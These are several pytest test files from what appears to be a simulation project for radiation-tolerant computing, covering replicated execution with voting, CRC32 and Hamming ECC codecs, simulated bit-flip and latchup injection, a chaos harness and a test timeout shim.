        assert status(_grid(), store, fast=True).completed == 3


class TestReportCodec:
    def test_table_render_round_trips(self):
        table = Table(
            title="T", columns=["name", "n", "x"], notes="note",
        )
        table.add_row("alpha", 1234, 1234.0)
        table.add_row("beta", 0, 0.00042)
        thawed = decode_report(json.loads(json.dumps(encode_report(table))))
        assert thawed.render() == table.render()
        # int 1234 and float 1234.0 render differently — the codec must
        # not coerce, or a replayed table changes bytes.
        assert "1234" in table.render() and "1.23e+03" in table.render()

    def test_series_render_round_trips(self):
        series = Series(title="S", x_label="x", y_label="y")
        series.add("a", [1, 2, 3], [0.5, 1.5, 2.5])
        thawed = decode_report(json.loads(json.dumps(encode_report(series))))
        assert thawed.render() == series.render()

    def test_unknown_kinds_rejected(self):
        with pytest.raises(ConfigurationError):
            encode_report(42)
        with pytest.raises(ConfigurationError):
            decode_report({"kind": "chart"})


@pytest.mark.slow
class TestTable7ResumeByteIdentity:
    def test_interrupted_campaign_matches_cold(self, tmp_path):
        """The acceptance criterion end-to-end: run part of the Table 7
        grid, resume against the same store, and require the rendered
        table to equal a storeless cold run byte-for-byte."""
        from repro.experiments import table7_fault_injection as t7

        cold = t7.run(runs_per_scheme=3, seed=3).render()

        store = TrialStore(tmp_path)
        camp = t7.campaign(runs_per_scheme=3, seed=3)
        partial = Campaign(
            name=camp.name, trial_fn=camp.trial_fn,
            trials=camp.trials[: len(camp.trials) // 2],
            seed=camp.seed, context=camp.context, salt=camp.salt,
            encode=camp.encode, decode=camp.decode,
        )
        execute(partial, store=store)

        resumed = execute(camp, store=store, workers=2)
        assert resumed.store_hits == len(camp.trials) // 2
        assert camp.aggregate(resumed.values, metrics=None).render() == cold
