"""Tests for the checksum-protection comparison scheme and CRC32."""

import zlib

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core.emr import EmrConfig, checksum_protected_run, crc32
from repro.core.emr.runtime import EmrHooks
from repro.radiation import OutcomeClass, SeuTarget
from repro.radiation.injector import CampaignConfig, FaultInjectionCampaign
from repro.sim import Machine
from repro.workloads import AesWorkload


class TestCrc32:
    @pytest.mark.parametrize(
        "data", [b"", b"a", b"123456789", bytes(range(256)), b"\xff" * 64]
    )
    def test_matches_zlib(self, data):
        assert crc32(data) == zlib.crc32(data)

    @given(st.binary(min_size=0, max_size=300))
    @settings(max_examples=60, deadline=None)
    def test_matches_zlib_property(self, data):
        assert crc32(data) == zlib.crc32(data)

    def test_check_value(self):
        # The canonical CRC-32 check value for "123456789".
        assert crc32(b"123456789") == 0xCBF43926

    def test_single_bit_sensitivity(self):
        data = bytearray(64)
        reference = crc32(bytes(data))
        data[17] ^= 0x04
        assert crc32(bytes(data)) != reference


@pytest.fixture
def workload():
    return AesWorkload(chunk_bytes=64, chunks=8)


@pytest.fixture
def spec(workload):
    return workload.build(np.random.default_rng(0))


class TestChecksumScheme:
    def test_fault_free_outputs_match(self, workload, spec):
        golden = workload.reference_outputs(spec)
        result = checksum_protected_run(Machine.rpi_zero2w(), workload, spec=spec)
        assert result.outputs == golden
        assert result.scheme == "checksum"
        assert result.breakdown["checksum"] > 0

    def test_checksum_overhead_visible(self, workload, spec):
        from repro.core.emr import single_run

        check = checksum_protected_run(Machine.rpi_zero2w(), workload, spec=spec)
        plain = single_run(Machine.rpi_zero2w(), workload, spec=spec)
        # Verification costs real time (the paper's "computationally
        # expensive" point).
        assert check.wall_seconds > plain.wall_seconds

    def test_cache_corruption_corrected_by_refetch(self, workload, spec):
        golden = workload.reference_outputs(spec)
        machine = Machine.rpi_zero2w()

        class FlipCachedChunk(EmrHooks):
            fired = False

            def before_job(self, runtime, job):
                # After the first job, its chunk line sits in L2.
                if not self.fired and job.dataset_index == 1:
                    if 0 in machine.caches.l2:
                        machine.caches.l2.flip_bit(0, 3, 1)
                        self.fired = True

        result = checksum_protected_run(
            machine, workload, spec=spec, hooks=FlipCachedChunk()
        )
        # The guard either never re-read the line or refetched cleanly;
        # outputs must match and no silent corruption happened.
        assert result.outputs == golden

    def test_campaign_checksum_catches_memory_misses_pipeline(self):
        """Checksums verify inputs but cannot catch compute faults —
        the reason the paper builds EMR instead."""
        workload = AesWorkload(chunk_bytes=32, chunks=4)
        pipeline_only = FaultInjectionCampaign(
            workload,
            CampaignConfig(runs_per_scheme=5, weights={SeuTarget.PIPELINE: 1.0}),
            seed=2,
        )
        table = pipeline_only.run(schemes=("checksum",))
        assert table["checksum"][OutcomeClass.SDC] == 5

    def test_campaign_checksum_protects_cache(self):
        workload = AesWorkload(chunk_bytes=32, chunks=6)
        cache_only = FaultInjectionCampaign(
            workload,
            CampaignConfig(
                runs_per_scheme=8,
                weights={SeuTarget.L2_CACHE: 0.5, SeuTarget.L1_CACHE: 0.5},
            ),
            seed=3,
        )
        table = cache_only.run(schemes=("checksum",))
        # Cached-input corruption is either harmless (line not re-read)
        # or corrected by refetch; it must never become an SDC.
        assert table["checksum"][OutcomeClass.SDC] == 0
