"""Tests for radiation environments, SEL/thermal models, SEU injection."""

import numpy as np
import pytest

from repro.errors import ConfigurationError, HardwareDamagedError, SimulationError
from repro.radiation import (
    LOW_EARTH_ORBIT,
    MARS_SURFACE,
    SEA_LEVEL,
    LatchupInjector,
    RadiationEnvironment,
    SelEvent,
    SeuTarget,
    ThermalModel,
    corrupt_bytes,
    flip_dram,
    flip_l2,
    inject,
    poison_pipeline,
)
from repro.sim import Machine


@pytest.fixture
def machine():
    return Machine.rpi_zero2w()


class TestEnvironments:
    def test_space_is_harsher_than_earth(self):
        assert LOW_EARTH_ORBIT.seu_per_day > 1e5 * SEA_LEVEL.seu_per_day

    def test_mars_rate_matches_paper(self):
        # CRÈME-MC: 1.6 bit flips/day on the Snapdragon 801 (§2.2).
        assert MARS_SURFACE.seu_per_day == pytest.approx(1.6)

    def test_seu_sampling_statistics(self):
        rng = np.random.default_rng(0)
        events = MARS_SURFACE.sample_seu_events(30 * 86400.0, rng)
        assert 25 <= len(events) <= 75  # ~48 expected over 30 days
        assert all(0 <= e.time <= 30 * 86400.0 for e in events)
        times = [e.time for e in events]
        assert times == sorted(times)

    def test_mbu_fraction(self):
        rng = np.random.default_rng(1)
        env = RadiationEnvironment(name="t", seu_per_day=5000.0, sel_per_year=0.0, mbu_fraction=0.5)
        events = env.sample_seu_events(86400.0, rng)
        mbu_share = sum(e.is_mbu for e in events) / len(events)
        assert 0.4 < mbu_share < 0.6

    def test_sel_sampling(self):
        rng = np.random.default_rng(2)
        events = LOW_EARTH_ORBIT.sample_sel_events(10 * 365.25 * 86400.0, rng)
        assert 8 <= len(events) <= 35  # ~20 expected over 10 years
        low, high = LOW_EARTH_ORBIT.sel_delta_amps_range
        assert all(low <= e.delta_amps <= high for e in events)

    def test_zero_duration(self):
        rng = np.random.default_rng(3)
        assert SEA_LEVEL.sample_seu_events(0.0, rng) == []

    def test_invalid_rates_rejected(self):
        with pytest.raises(ConfigurationError):
            RadiationEnvironment(name="bad", seu_per_day=-1.0, sel_per_year=0.0)


class TestLatchups:
    def test_induce_raises_current(self, machine):
        injector = LatchupInjector(machine)
        injector.induce_delta(0.07)
        assert machine.extra_current_draw == pytest.approx(0.07)
        assert injector.any_active

    def test_reboot_does_not_clear(self, machine):
        injector = LatchupInjector(machine)
        injector.induce_delta(0.07)
        machine.reboot()
        assert machine.extra_current_draw == pytest.approx(0.07)
        assert injector.any_active

    def test_power_cycle_clears(self, machine):
        injector = LatchupInjector(machine)
        injector.induce_delta(0.07)
        injector.induce_delta(0.10)
        machine.power_cycle()
        assert machine.extra_current_draw == 0.0
        assert not injector.any_active
        assert injector.cleared_count == 2
        assert len(injector.history) == 2

    def test_invalid_delta(self, machine):
        injector = LatchupInjector(machine)
        with pytest.raises(ConfigurationError):
            injector.induce_delta(0.0)

    def test_oldest_onset(self, machine):
        injector = LatchupInjector(machine)
        assert injector.oldest_onset() is None
        injector.induce_delta(0.05)
        t0 = machine.clock.now
        machine.clock.advance(10)
        injector.induce_delta(0.05)
        assert injector.oldest_onset() == pytest.approx(t0)


class TestThermal:
    def test_micro_sel_damage_near_five_minutes(self, machine):
        thermal = ThermalModel(machine, LatchupInjector(machine))
        assert 240 < thermal.time_to_damage(0.07) < 420

    def test_larger_sel_damages_faster(self, machine):
        thermal = ThermalModel(machine, LatchupInjector(machine))
        assert thermal.time_to_damage(0.3) < thermal.time_to_damage(0.1)

    def test_tiny_sel_never_damages(self, machine):
        thermal = ThermalModel(machine, LatchupInjector(machine))
        assert thermal.time_to_damage(0.01) == float("inf")

    def test_check_marks_machine_dead(self, machine):
        injector = LatchupInjector(machine)
        thermal = ThermalModel(machine, injector)
        injector.induce_delta(0.2)
        assert not thermal.check()
        machine.clock.advance(thermal.time_to_damage(0.2) + 1.0)
        assert thermal.check()
        with pytest.raises(HardwareDamagedError):
            machine.cores[0].execute(100)

    def test_detection_before_deadline_saves_chip(self, machine):
        injector = LatchupInjector(machine)
        thermal = ThermalModel(machine, injector)
        injector.induce_delta(0.07)
        machine.clock.advance(180.0)  # ILD's detection window
        assert thermal.margin_seconds() > 0
        machine.power_cycle()
        machine.clock.advance(10_000.0)
        assert not thermal.check()

    def test_temperature_monotone_in_age(self, machine):
        thermal = ThermalModel(machine, LatchupInjector(machine))
        temps = [thermal.hotspot_temperature(t, 0.1) for t in (0, 60, 120, 600)]
        assert temps == sorted(temps)
        assert temps[0] == pytest.approx(thermal.params.ambient_temp_c)


class TestSeuInjection:
    def test_dram_flip_corrected_by_ecc(self, machine):
        region = machine.memory.alloc(1024)
        machine.memory.write_region(region, b"\x5a" * 1024)
        flip_dram(machine, np.random.default_rng(0))
        assert machine.memory.read_region(region) == b"\x5a" * 1024
        assert machine.memory.stats.corrected_errors == 1

    def test_dram_mbu_defeats_ecc(self, machine):
        region = machine.memory.alloc(64)
        machine.memory.write_region(region, b"\x00" * 64)
        rng = np.random.default_rng(1)
        # Retry until the two flips land on distinct bits of one word.
        for _ in range(50):
            record = flip_dram(machine, rng, bits=2)
            raw = machine.memory.peek(region.addr, 64)
            if raw != b"\x00" * 64 and bin(int.from_bytes(raw, "little")).count("1") == 2:
                break
            machine.memory.write_region(region, b"\x00" * 64)
        assert record.bits == 2

    def test_l2_flip_requires_resident_lines(self, machine):
        assert flip_l2(machine, np.random.default_rng(2)) is None
        region = machine.memory.alloc(64)
        machine.memory.write_region(region, b"\x00" * 64)
        machine.read_via_cache(region.addr, 64, group=0)
        record = flip_l2(machine, np.random.default_rng(3))
        assert record is not None and record.target is SeuTarget.L2_CACHE

    def test_poison_pipeline(self, machine):
        record = poison_pipeline(machine, np.random.default_rng(4), core_id=2)
        assert machine.cores[2].poisoned
        assert record.detail == "core 2"
        machine.cores[2].reset_faults()
        assert not machine.cores[2].poisoned

    def test_inject_dispatch(self, machine):
        machine.memory.alloc(128)
        rng = np.random.default_rng(5)
        assert inject(machine, SeuTarget.DRAM, rng).target is SeuTarget.DRAM
        with pytest.raises(SimulationError):
            inject(machine, SeuTarget.POINTER, rng)

    def test_corrupt_bytes_flips_exactly(self):
        rng = np.random.default_rng(6)
        data = bytes(32)
        corrupted = corrupt_bytes(data, rng, bits=1)
        diff = sum(bin(a ^ b).count("1") for a, b in zip(data, corrupted))
        assert diff == 1
        assert corrupt_bytes(b"", rng) == b""

    def test_page_cache_flip(self, machine):
        machine.storage.store("data.bin", b"\x00" * 256)
        machine.storage.read("data.bin")
        record = inject(machine, SeuTarget.PAGE_CACHE, np.random.default_rng(7))
        assert record is not None
        assert machine.storage.read("data.bin").data != b"\x00" * 256
