"""Unit and property tests for the SECDED Hamming(72,64) codec."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.sim import ecc

WORDS = st.integers(min_value=0, max_value=(1 << 64) - 1)


class TestScalarRoundtrip:
    def test_zero_word(self):
        check = ecc.encode(0)
        result = ecc.decode(0, check)
        assert result.data == 0
        assert result.clean

    def test_all_ones(self):
        word = (1 << 64) - 1
        check = ecc.encode(word)
        result = ecc.decode(word, check)
        assert result.data == word
        assert result.clean

    @given(WORDS)
    @settings(max_examples=200)
    def test_roundtrip_is_clean(self, word):
        result = ecc.decode(word, ecc.encode(word))
        assert result.data == word
        assert not result.corrected
        assert not result.uncorrectable


class TestSingleBitCorrection:
    @given(WORDS, st.integers(min_value=0, max_value=63))
    @settings(max_examples=200)
    def test_any_data_bit_flip_is_corrected(self, word, bit):
        check = ecc.encode(word)
        corrupted = word ^ (1 << bit)
        result = ecc.decode(corrupted, check)
        assert result.corrected
        assert not result.uncorrectable
        assert result.data == word

    @given(WORDS, st.integers(min_value=0, max_value=7))
    @settings(max_examples=100)
    def test_any_check_bit_flip_leaves_data_intact(self, word, bit):
        check = ecc.encode(word) ^ (1 << bit)
        result = ecc.decode(word, check)
        assert result.corrected
        assert not result.uncorrectable
        assert result.data == word


class TestDoubleBitDetection:
    @given(
        WORDS,
        st.integers(min_value=0, max_value=63),
        st.integers(min_value=0, max_value=63),
    )
    @settings(max_examples=200)
    def test_two_data_bit_flips_are_detected(self, word, b1, b2):
        if b1 == b2:
            return
        check = ecc.encode(word)
        corrupted = word ^ (1 << b1) ^ (1 << b2)
        result = ecc.decode(corrupted, check)
        assert result.uncorrectable
        assert not result.corrected

    @given(
        WORDS,
        st.integers(min_value=0, max_value=63),
        st.integers(min_value=0, max_value=7),
    )
    @settings(max_examples=100)
    def test_one_data_plus_one_check_flip_is_detected(self, word, data_bit, check_bit):
        check = ecc.encode(word) ^ (1 << check_bit)
        corrupted = word ^ (1 << data_bit)
        result = ecc.decode(corrupted, check)
        assert result.uncorrectable


class TestVectorized:
    def test_encode_array_matches_scalar(self):
        rng = np.random.default_rng(3)
        words = rng.integers(0, 1 << 63, size=64, dtype=np.uint64)
        checks = ecc.encode_array(words)
        for word, check in zip(words, checks):
            assert int(check) == ecc.encode(int(word))

    def test_decode_array_clean(self):
        rng = np.random.default_rng(4)
        words = rng.integers(0, 1 << 63, size=128, dtype=np.uint64)
        checks = ecc.encode_array(words)
        fixed, corrected, uncorrectable = ecc.decode_array(words, checks)
        assert np.array_equal(fixed, words)
        assert not corrected.any()
        assert not uncorrectable.any()

    def test_decode_array_corrects_scattered_single_flips(self):
        rng = np.random.default_rng(5)
        words = rng.integers(0, 1 << 63, size=100, dtype=np.uint64)
        checks = ecc.encode_array(words)
        corrupted = words.copy()
        flip_indices = [3, 17, 42, 99]
        for i in flip_indices:
            corrupted[i] ^= np.uint64(1) << np.uint64(rng.integers(0, 64))
        fixed, corrected, uncorrectable = ecc.decode_array(corrupted, checks)
        assert np.array_equal(fixed, words)
        assert sorted(np.nonzero(corrected)[0].tolist()) == flip_indices
        assert not uncorrectable.any()

    def test_decode_array_flags_double_flips(self):
        words = np.array([0xDEADBEEFCAFEF00D], dtype=np.uint64)
        checks = ecc.encode_array(words)
        corrupted = words ^ np.uint64((1 << 5) | (1 << 40))
        _, corrected, uncorrectable = ecc.decode_array(corrupted, checks)
        assert uncorrectable[0]
        assert not corrected[0]


class TestByteHelpers:
    def test_roundtrip(self):
        data = bytes(range(16))
        assert ecc.words_to_bytes(ecc.bytes_to_words(data)) == data

    def test_rejects_unaligned(self):
        with pytest.raises(ValueError):
            ecc.bytes_to_words(b"abc")
