"""Project-wide pytest configuration: the global per-test timeout.

The ground-segment layer exists because workers hang; its tests (and
any future regression) must not be able to hang CI with them. The
``timeout`` value in ``pyproject.toml`` bounds every test's wall
clock. When the ``pytest-timeout`` plugin is installed (the CI test
extra) it owns that ini option; when it is not (minimal local
environments), this shim registers the option itself and enforces it
with a ``SIGALRM`` interval timer — child processes are unaffected
(POSIX resets interval timers across ``fork``), so the supervised
executor's worker pools run undisturbed under it.
"""

from __future__ import annotations

import importlib.util
import signal

import pytest

_HAVE_PYTEST_TIMEOUT = importlib.util.find_spec("pytest_timeout") is not None

if not _HAVE_PYTEST_TIMEOUT:

    def pytest_addoption(parser):
        parser.addini(
            "timeout",
            "per-test timeout in seconds (SIGALRM fallback shim; install "
            "pytest-timeout for the full plugin)",
            default="0",
        )

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_call(item):
        try:
            seconds = float(item.config.getini("timeout") or 0)
        except (TypeError, ValueError):
            seconds = 0.0
        if seconds <= 0 or not hasattr(signal, "SIGALRM"):
            yield
            return

        def _expired(signum, frame):
            raise TimeoutError(
                f"test exceeded the global {seconds:g}s timeout "
                "(tests/conftest.py shim)"
            )

        previous = signal.signal(signal.SIGALRM, _expired)
        signal.setitimer(signal.ITIMER_REAL, seconds)
        try:
            yield
        finally:
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGALRM, previous)
