"""Tests for the chaos harness and the supervised mission loop.

The full 24-scenario matrix runs in CI via ``scripts/check_chaos.py``;
here we run a representative subset and pin the properties the harness
itself promises: invariants hold, reports are deterministic, control-
plane strikes are survived, and the supervised mission recovers every
latchup while the policy visibly moves the replication level.
"""

import numpy as np
import pytest

from repro.chaos import (
    ChaosScenario,
    decode_chaos_report,
    default_scenarios,
    encode_chaos_report,
    reports_digest,
    run_chaos,
    run_scenario,
)
from repro.errors import ConfigurationError
from repro.missions import MissionConfig, MissionSimulator
from repro.radiation import RadiationEnvironment

BUSY_SKY = RadiationEnvironment(
    name="chaos-test-sky",
    seu_per_day=10.0,
    sel_per_year=1200.0,
    sel_delta_amps_range=(0.07, 0.2),
)


def _run(name):
    (scenario,) = [s for s in default_scenarios() if s.name == name]
    return run_scenario(scenario, np.random.default_rng(scenario.seed))


class TestScenarios:
    def test_matrix_is_large_and_unique(self):
        scenarios = default_scenarios()
        assert len(scenarios) >= 20
        names = [s.name for s in scenarios]
        assert len(set(names)) == len(names)
        seeds = [s.seed for s in scenarios]
        assert len(set(seeds)) == len(seeds)

    def test_matrix_covers_every_control_surface(self):
        struck = set()
        for scenario in default_scenarios():
            struck.update(scenario.control_strikes)
        assert struck == {"ild", "vote", "eventlog"}

    def test_validation(self):
        with pytest.raises(ConfigurationError):
            ChaosScenario(name="bad", seed=0, duration_seconds=-1.0)
        with pytest.raises(ConfigurationError):
            ChaosScenario(name="bad", seed=0, control_strikes=("psu",))


class TestEpisodes:
    def test_quiet_episode_is_clean(self):
        report = _run("quiet-standard")
        assert report.ok
        assert report.counters.get("sels_injected", 0) == 0
        assert report.counters.get("recoveries", 0) == 0
        assert report.final_level == "standard"
        assert report.events_logged == 0

    def test_sel_storm_recovers_every_latchup(self):
        report = _run("sel-storm-standard")
        assert report.ok
        assert report.counters["sels_injected"] >= 1
        assert report.counters["recoveries"] >= 1

    def test_control_plane_strikes_survived(self):
        for name in ("control-ild", "control-vote", "control-eventlog"):
            report = _run(name)
            assert report.ok, (name, report.violations)

    def test_economy_vote_strike_never_silent(self):
        report = _run("economy-vote-strike-0")
        assert report.ok
        struck = report.counters["vote_strikes"]
        noticed = report.counters.get(
            "vote_strikes_detected", 0
        ) + report.counters.get("vote_strikes_outvoted", 0)
        assert struck >= 1 and noticed == struck

    def test_watchdog_hang_bites(self):
        report = _run("watchdog-hang-standard")
        assert report.ok
        assert report.counters["watchdog_bites"] >= 1

    def test_report_roundtrip(self):
        report = _run("quiet-economy")
        assert decode_chaos_report(encode_chaos_report(report)) == report


class TestDeterminism:
    SUBSET = ("quiet-standard", "sel-storm-standard", "control-vote")

    def _subset(self):
        return tuple(
            s for s in default_scenarios() if s.name in self.SUBSET
        )

    def test_rerun_is_byte_identical(self):
        first, digest_a = run_chaos(self._subset())
        second, digest_b = run_chaos(self._subset())
        assert digest_a == digest_b
        assert [encode_chaos_report(r) for r in first] == [
            encode_chaos_report(r) for r in second
        ]
        assert reports_digest(first) == digest_a

    @pytest.mark.slow
    def test_workers_do_not_change_the_digest(self):
        _, serial = run_chaos(self._subset(), workers=1)
        _, parallel = run_chaos(self._subset(), workers=2)
        assert serial == parallel

    def test_store_replay_identical(self, tmp_path):
        _, first = run_chaos(self._subset(), store=tmp_path / "store")
        _, replayed = run_chaos(self._subset(), store=tmp_path / "store")
        assert first == replayed


class TestSupervisedMission:
    @pytest.fixture(scope="class")
    def report(self):
        config = MissionConfig(
            duration_days=0.5, environment=BUSY_SKY, tick=8e-3, seed=8,
            supervised=True,
        )
        return MissionSimulator(config).run()

    def test_mission_survives_the_storm(self, report):
        assert report.survived
        assert report.silent_corruptions == 0

    def test_every_sel_recovered(self, report):
        sels = report.dataset.by_type("sel")
        assert sels  # this sky latches at least once in half a day
        assert all(r.detected for r in sels)
        assert all(r.action == "power_cycle" for r in sels)
        assert report.recoveries >= len(sels)
        assert report.replays_ok >= 1

    def test_policy_moved_the_replication_level(self, report):
        assert report.level_changes >= 1
        degrades = [e for e in report.events if e.name == "emr.degrade"]
        assert degrades  # the move is in the flight log, with reasons
        assert report.final_level in ("economy", "standard", "hardened")

    def test_recovery_chain_in_flight_log(self, report):
        names = {e.name for e in report.events}
        assert "sel.trip" in names
        assert "sel.power_cycle" in names
        assert "recovery.rollback" in names
        assert "recovery.replay" in names

    def test_summary_mentions_supervision(self, report):
        assert "supervised recoveries" in report.summary()
