"""End-to-end tests of the EMR runtime, baselines, and voting."""

import numpy as np
import pytest

from repro.core.emr import (
    EmrConfig,
    EmrRuntime,
    Frontier,
    JobResult,
    VoteStatus,
    emr_protect,
    sequential_3mr,
    single_run,
    unprotected_parallel_3mr,
    vote,
    vote_or_raise,
)
from repro.core.emr.runtime import EmrHooks
from repro.errors import ConfigurationError, VotingInconclusiveError
from repro.sim import Machine
from repro.workloads import AesWorkload, DeflateWorkload


@pytest.fixture
def workload():
    return AesWorkload(chunk_bytes=64, chunks=9)


@pytest.fixture
def spec(workload):
    return workload.build(np.random.default_rng(0))


@pytest.fixture
def golden(workload, spec):
    return workload.reference_outputs(spec)


def _config(**kw):
    kw.setdefault("replication_threshold", 0.5)
    return EmrConfig(**kw)


class TestVoting:
    def test_unanimous(self):
        results = [JobResult(0, e, b"same") for e in range(3)]
        outcome = vote(results)
        assert outcome.status is VoteStatus.UNANIMOUS
        assert outcome.output == b"same"

    def test_majority_corrects_one_dissenter(self):
        results = [
            JobResult(0, 0, b"good"),
            JobResult(0, 1, b"bad!"),
            JobResult(0, 2, b"good"),
        ]
        outcome = vote(results)
        assert outcome.status is VoteStatus.CORRECTED
        assert outcome.output == b"good"
        assert outcome.dissenting_executors == (1,)

    def test_faulted_replica_out_voted(self):
        results = [
            JobResult(0, 0, b"good"),
            JobResult(0, 1, None, fault="segfault"),
            JobResult(0, 2, b"good"),
        ]
        outcome = vote(results)
        assert outcome.status is VoteStatus.CORRECTED

    def test_three_way_split_inconclusive(self):
        results = [JobResult(0, e, bytes([e])) for e in range(3)]
        assert vote(results).status is VoteStatus.INCONCLUSIVE
        with pytest.raises(VotingInconclusiveError):
            vote_or_raise(results)

    def test_two_faults_inconclusive(self):
        results = [
            JobResult(0, 0, b"good"),
            JobResult(0, 1, None, fault="segfault"),
            JobResult(0, 2, None, fault="ecc"),
        ]
        assert vote(results).status is VoteStatus.INCONCLUSIVE

    def test_mixed_datasets_rejected(self):
        with pytest.raises(ConfigurationError):
            vote([JobResult(0, 0, b"x"), JobResult(1, 1, b"x")])


class TestEmrCorrectness:
    def test_outputs_match_golden(self, workload, spec, golden):
        machine = Machine.rpi_zero2w()
        runtime = EmrRuntime(machine, workload, config=_config())
        result = runtime.run(spec=spec)
        assert result.matches(golden)
        assert result.stats.unanimous_votes == len(spec.datasets)
        assert result.stats.vote_corrections == 0

    def test_all_schemes_agree_fault_free(self, workload, spec, golden):
        for runner in (sequential_3mr, unprotected_parallel_3mr, single_run):
            machine = Machine.rpi_zero2w()
            result = runner(machine, workload, spec=spec, config=_config())
            assert result.outputs == golden, runner.__name__

    def test_deflate_chain_workload(self):
        workload = DeflateWorkload(block_bytes=256, blocks=8)
        spec = workload.build(np.random.default_rng(1))
        golden = workload.reference_outputs(spec)
        machine = Machine.rpi_zero2w()
        result = emr_protect(machine, workload, config=_config(), seed=1)
        # emr_protect rebuilds the spec from the same seed.
        assert result.outputs == golden

    def test_storage_frontier_on_non_ecc_machine(self, workload, spec, golden):
        machine = Machine.snapdragon801()
        runtime = EmrRuntime(machine, workload, config=_config())
        assert runtime.frontier is Frontier.STORAGE
        result = runtime.run(spec=spec)
        assert result.matches(golden)

    def test_dram_frontier_rejected_without_ecc(self, workload):
        machine = Machine.snapdragon801()
        with pytest.raises(ConfigurationError):
            EmrRuntime(machine, workload, config=_config(frontier=Frontier.DRAM))


class TestEmrTiming:
    def test_emr_faster_than_sequential_3mr(self, workload, spec):
        emr_result = EmrRuntime(
            Machine.rpi_zero2w(), workload, config=_config()
        ).run(spec=spec)
        seq_result = sequential_3mr(
            Machine.rpi_zero2w(), workload, spec=spec, config=_config()
        )
        assert emr_result.wall_seconds < seq_result.wall_seconds

    def test_emr_slower_than_unprotected(self, workload, spec):
        emr_result = EmrRuntime(
            Machine.rpi_zero2w(), workload, config=_config()
        ).run(spec=spec)
        unprotected = unprotected_parallel_3mr(
            Machine.rpi_zero2w(), workload, spec=spec, config=_config()
        )
        assert emr_result.wall_seconds >= unprotected.wall_seconds

    def test_sequential_reads_disk_three_times(self, workload, spec):
        seq = sequential_3mr(
            Machine.rpi_zero2w(), workload, spec=spec, config=_config()
        )
        emr = EmrRuntime(Machine.rpi_zero2w(), workload, config=_config()).run(spec=spec)
        assert seq.breakdown["disk_read"] > 2.5 * emr.breakdown["disk_read"]

    def test_storage_frontier_slower_than_dram(self, workload, spec):
        dram = EmrRuntime(
            Machine.rpi_zero2w(), workload, config=_config()
        ).run(spec=spec)
        storage = EmrRuntime(
            Machine.rpi_zero2w(), workload,
            config=_config(frontier=Frontier.STORAGE),
        ).run(spec=spec)
        assert storage.wall_seconds > dram.wall_seconds

    def test_energy_ordering(self, workload, spec):
        emr = EmrRuntime(Machine.rpi_zero2w(), workload, config=_config()).run(spec=spec)
        seq = sequential_3mr(
            Machine.rpi_zero2w(), workload, spec=spec, config=_config()
        )
        assert emr.energy.total_joules < seq.energy.total_joules

    def test_breakdown_buckets_present(self, workload, spec):
        result = EmrRuntime(
            Machine.rpi_zero2w(), workload, config=_config()
        ).run(spec=spec)
        for bucket in ("disk_read", "allocation", "compute", "orchestration"):
            assert bucket in result.breakdown
        assert result.breakdown["compute"] > 0


class TestSharedCacheHazard:
    """The paper's core soundness claim: naive parallel 3-MR lets one
    shared-cache SEU corrupt multiple replicas identically; EMR's
    jobset isolation + flushes prevent it."""

    def _flip_chunk_line(self, machine, spec):
        """Flip the L2 copy of dataset 0's data chunk, if resident."""
        # Blob "plaintext" was allocated first at a line boundary; its
        # chunk 0 occupies the first line(s) of DRAM.
        line = 0
        if line in machine.caches.l2:
            machine.caches.l2.flip_bit(line, 5, 1)
            return True
        return False

    def test_unprotected_parallel_suffers_sdc(self):
        workload = AesWorkload(chunk_bytes=64, chunks=4)
        spec = workload.build(np.random.default_rng(2))
        golden = workload.reference_outputs(spec)
        machine = Machine.rpi_zero2w()
        outer = self

        class Hooks(EmrHooks):
            fired = False

            def before_job(self, runtime, job):
                # After replica 0 of dataset 0 ran, its chunk line is
                # still in L2 (no flushes). Corrupt it before replicas
                # 1 and 2 read it.
                if not self.fired and job.dataset_index == 0 and job.executor_id == 1:
                    self.fired = outer._flip_chunk_line(machine, spec)

        hooks = Hooks()
        result = unprotected_parallel_3mr(
            machine, workload, spec=spec, config=_config(), hooks=hooks
        )
        assert hooks.fired, "test setup: line was not resident"
        # Two replicas read the corrupted line -> the corrupted output
        # WINS the vote. Silent data corruption.
        assert result.outputs != golden
        assert not result.stats.detected_faults

    def test_emr_immune_to_the_same_strike(self):
        workload = AesWorkload(chunk_bytes=64, chunks=4)
        spec = workload.build(np.random.default_rng(2))
        golden = workload.reference_outputs(spec)
        machine = Machine.rpi_zero2w()
        outer = self
        fired = []

        class Hooks(EmrHooks):
            def before_job(self, runtime, job):
                if not fired and job.dataset_index == 0 and job.executor_id == 1:
                    if outer._flip_chunk_line(machine, spec):
                        fired.append(True)

        runtime = EmrRuntime(
            machine, workload, config=_config(), hooks=Hooks()
        )
        result = runtime.run(spec=spec)
        # EMR flushed the chunk's lines after replica 0's job, so the
        # line was NOT resident when the hook tried to strike — or if a
        # strike landed, at most one replica saw it.
        assert result.matches(golden)


class TestPipelineFaults:
    def test_poisoned_core_is_out_voted(self, workload, spec, golden):
        machine = Machine.rpi_zero2w()

        class PoisonOnce(EmrHooks):
            fired = False

            def before_job(self, runtime, job):
                if not self.fired and job.dataset_index == 3:
                    machine.cores[job.group].poisoned = True
                    self.fired = True

        result = EmrRuntime(
            machine, workload, config=_config(), hooks=PoisonOnce()
        ).run(spec=spec)
        assert result.matches(golden)
        assert result.stats.vote_corrections == 1

    def test_corrupted_pointer_segfaults_but_recovers(self, workload, spec, golden):
        machine = Machine.rpi_zero2w()

        class BreakPointer(EmrHooks):
            fired = False

            def before_job(self, runtime, job):
                if not self.fired and job.dataset_index == 2 and job.executor_id == 0:
                    offset, length = job.pointers["data"]
                    job.pointers["data"] = (offset + (1 << 27), length)
                    self.fired = True

        result = EmrRuntime(
            machine, workload, config=_config(), hooks=BreakPointer()
        ).run(spec=spec)
        assert result.matches(golden)
        assert result.had_detected_error
        assert "corrupted" in result.stats.detected_faults[0]

    def test_replica_crash_is_contained(self, workload, spec, golden):
        """An arbitrary exception in one replica (not a modeled
        DetectedFaultError — a plain crash) must not abort the run: it
        becomes a recorded fault the other replicas out-vote."""
        machine = Machine.rpi_zero2w()

        class CrashOnce(EmrHooks):
            fired = False

            def before_job(self, runtime, job):
                if not self.fired and job.dataset_index == 1 and job.executor_id == 2:
                    self.fired = True
                    raise RuntimeError("cosmic ray in the scheduler")

        result = EmrRuntime(
            machine, workload, config=_config(), hooks=CrashOnce()
        ).run(spec=spec)
        assert result.matches(golden)
